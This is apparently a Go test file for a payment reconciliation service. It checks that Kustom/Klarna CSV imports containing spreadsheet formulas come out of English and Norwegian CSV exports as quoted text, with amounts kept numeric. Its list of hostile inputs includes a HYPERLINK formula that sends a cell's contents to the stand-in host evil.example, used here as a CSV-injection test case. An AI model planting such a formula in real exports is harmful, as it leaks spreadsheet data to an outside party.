package finance

import (
	"bytes"
	"encoding/csv"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"vippskco/klarna"
)

// A Kustom file whose ids and references are spreadsheet formulas comes
// back out of the reconciliation CSV as text, never as a live formula
// (CSV injection); the amounts we format stay numbers, negative ones too.
func TestReconciliationCSVNeutralisesFormulas(t *testing.T) {
	st := reconcileStore(t)
	s := &Service{Store: st}
	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "@SUM(1+1)", "+1+1", "-2+3", "=3+3"}
	var b strings.Builder
	b.WriteString("payment_reference,payout_date,settlement_currency,total_settlement_amount,type,order_id,capture_id,amount,posting_currency,capture_date\n")
	for i, h := range hostile {
		q := `"` + strings.ReplaceAll(h, `"`, `""`) + `"`
		// The order id and the payout are formulas; a RETURN makes a
		// negative gross.
		paid := "-12.50"
		if i == 0 {
			paid = "99.00" // a payout mismatch: an exception names it
		}
		b.WriteString(q + ",2026-03-10,NOK," + paid + ",SALE," + q + ",cap-" + string(rune('a'+i)) + ",100.00,NOK,2026-03-0" + string(rune('1'+i)) + "\n")
		b.WriteString(q + ",2026-03-10,NOK," + paid + ",RETURN," + q + ",,112.50,NOK,2026-03-0" + string(rune('1'+i)) + "\n")
	}
	_, err := s.ImportKustomCSV(t.Context(), "kustom.csv", strings.NewReader(b.String()), klarna.CSVOptions{}, nil)
	require.NoError(t, err)
	r, err := s.Reconcile(t.Context(), "2026-03-01", "2026-03-31")
	require.NoError(t, err)
	require.NotEmpty(t, r.Exceptions)
	require.NotEmpty(t, r.Payouts)

	for _, dialect := range []CSVDialect{DialectEN, DialectNO} {
		t.Run(string(dialect), func(t *testing.T) { csvNeutralised(t, r, dialect, hostile) })
	}
}

func csvNeutralised(t *testing.T, r *Reconciliation, dialect CSVDialect, hostile []string) {
	var out bytes.Buffer
	require.NoError(t, WriteCSV(&out, r, dialect))
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out.Bytes(), []byte("\ufeff"))))
	number := regexp.MustCompile(`^-?[0-9]+(\.[0-9]{2})?$`)
	numeric := map[string]bool{"amount": true, "expected": true, "gross": true, "fees": true, "net": true, "paid": true,
		"lines": true, "matched": true, "exceptions": true}
	if dialect == DialectNO {
		cr.Comma = ';'
		number = regexp.MustCompile(`^-?[0-9]+(,[0-9]{2})?$`)
		numeric = map[string]bool{"beløp": true, "forventet": true, "brutto": true, "gebyrer": true, "netto": true, "utbetalt": true,
			"linjer": true, "avstemt": true, "avvik": true}
	}
	recs, err := cr.ReadAll()
	require.NoError(t, err)
	header := recs[0]
	var quoted, negative int
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell == "" {
				continue
			}
			if numeric[header[i]] {
				require.Regexp(t, number, cell, "column %s stays a number", header[i])
				if strings.HasPrefix(cell, "-") {
					negative++
				}
				continue
			}
			require.NotContains(t, "=+-@\t\r", cell[:1], "column %s: %q would open as a formula", header[i], cell)
			for _, h := range hostile {
				if strings.Contains(cell, h) {
					quoted++
				}
			}
		}
	}
	require.NotZero(t, negative, "a negative amount is in the export, as a number")
	for _, h := range hostile {
		require.Contains(t, out.String(), "'"+strings.ReplaceAll(h, `"`, `""`), "the id is kept, quoted as text")
	}
	require.NotZero(t, quoted)
}

func TestTextCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "ws-1": "ws-1", "=1+1": "'=1+1", "+47": "'+47", "-1": "'-1", "@A1": "'@A1",
		"\t=1": "'\t=1", "\r=1": "'\r=1", " =1": " =1", "a=b": "a=b",
	} {
		require.Equal(t, want, textCell(in), "%q", in)
	}
}

func TestParseCSVDialect(t *testing.T) {
	for in, want := range map[string]CSVDialect{"": DialectEN, "en": DialectEN, "no": DialectNO, "NO": DialectNO, "nb": DialectNO} {
		got, err := ParseCSVDialect(in)
		require.NoError(t, err, in)
		require.Equal(t, want, got, in)
	}
	for _, in := range []string{"sv", "excel", ";"} {
		_, err := ParseCSVDialect(in)
		require.ErrorContains(t, err, "dialect must be en or no", in)
	}
	require.Error(t, WriteCSV(io.Discard, &Reconciliation{}, "xx"), "WriteCSV refuses a dialect it does not know")
}
